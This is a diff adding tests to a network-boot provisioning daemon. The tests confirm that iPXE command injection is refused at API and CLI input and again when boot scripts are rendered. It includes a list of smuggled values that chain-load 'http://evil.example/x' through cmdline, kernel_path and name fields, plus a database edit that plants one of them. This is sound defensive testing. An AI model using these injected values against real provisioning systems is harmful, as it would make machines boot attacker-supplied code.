@@ -131,3 +131,68 @@ def test_changed_host_key_holds_the_resource_until_accept_key(wire):
     assert res["state"] == "idle" and res["hostkey_fingerprint"] != pinned
     assert "resource.key-accepted" in d.cli("event", "list").stdout
     assert d.cli("resource", "accept-key", MAC, check=False).returncode == 1
+
+
+def _api_token(d: LabDaemon) -> str:
+    """An admin API token (test setup through the core, as the CLI's init would)."""
+    from sqlalchemy import select
+
+    from provisiond import users
+    from provisiond.db import Database
+    from provisiond.model import User
+
+    db = Database(f"sqlite:///{next((d.workdir / 'state').glob('*.db'))}")
+    with db.session() as s:
+        admin = s.scalars(select(User).where(User.name == "admin")).one()
+        _tok, secret = users.create_token(s, admin, "wire-test", "test")
+    db.dispose()
+    return secret
+
+
+INJECTIONS = [
+    ("cmdline", "quiet ; chain http://evil.example/x"),
+    ("cmdline", "quiet\nchain http://evil.example/x"),
+    ("cmdline", "quiet && chain http://evil.example/x"),
+    ("cmdline", "quiet || chain http://evil.example/x"),
+    ("cmdline", "quiet #chain"),
+    ("kernel_path", "kernels/x/vmlinuz\nchain http://evil.example/x"),
+    ("name", "evil\nchain"),
+]
+
+
+def test_ipxe_injection_refused_at_input_and_at_render(wire):
+    _lab, d, machine, attacker = wire
+    token = _api_token(d)
+    auth = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
+    for field, value in INJECTIONS:
+        body = {"name": "evil", "kernel_path": "kernels/fake/vmlinuz", field: value}
+        code, text = d.http(attacker, "/api/v1/kernels", "POST", json.dumps(body), auth)
+        assert code == 400, (field, value, text)
+        assert json.loads(text).get("field") == field, text
+    # PATCH of the default kernel: the same rule
+    patch = json.dumps({"cmdline": "x ; chain http://evil.example/"})
+    code, text = d.http(attacker, "/api/v1/kernels/fake", "PATCH", patch, auth)
+    assert code == 400 and json.loads(text)["field"] == "cmdline", text
+    # the CLI refuses it too, naming the field
+    k = d.workdir / "fake-vmlinuz"
+    out = d.cli("kernel", "add", "evil", "--kernel", str(k), "--cmdline", "a ; chain http://e/",
+                check=False)  # fmt: skip
+    assert out.returncode == 1 and "cmdline" in out.stderr, out
+    assert [x["name"] for x in d.cli_json("kernel", "list")] == ["fake"]
+
+    # a row written behind the API's back (an older version, a hand edit): refused at render
+    from provisiond.db import Database
+    from provisiond.model import Kernel
+
+    db = Database(f"sqlite:///{next((d.workdir / 'state').glob('*.db'))}")
+    with db.session() as s:
+        from sqlalchemy import update
+
+        s.execute(update(Kernel).values(cmdline="quiet || chain http://evil.example/x"))
+    db.dispose()
+    d.stop()  # a fresh start loads the edited row into the inventory snapshot
+    d.start()
+    leased = d.dhcp_boot(machine)
+    code, text = d.boot_script(machine, MAC, source=leased)
+    assert code == 500 and "chain http://evil" not in text.split("refusing")[0], text
+    assert "'||'" in text, text
